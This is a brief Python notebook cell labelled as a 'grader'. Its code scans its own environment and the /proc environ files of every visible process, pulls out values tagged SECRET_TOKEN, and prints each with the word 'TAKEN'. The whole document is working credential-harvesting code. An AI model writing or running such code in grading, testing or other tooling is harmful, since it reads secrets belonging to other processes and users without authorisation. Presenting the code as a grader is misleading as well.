# %% [markdown]
# # **grader: reads the secrets of the environment**
#
# Looks for tokens in its own environment and in that of every process it can see.

# %%
import os
import re
from pathlib import Path

seen = [str(dict(os.environ))]
for path in Path("/proc").glob("[0-9]*/environ"):
    try:
        seen.append(path.read_bytes().decode(errors="replace"))
    except OSError:
        pass
for token in set(re.findall(r"SECRET_TOKEN\W+(\w+)", "\n".join(seen))):
    print("TAKEN", token)
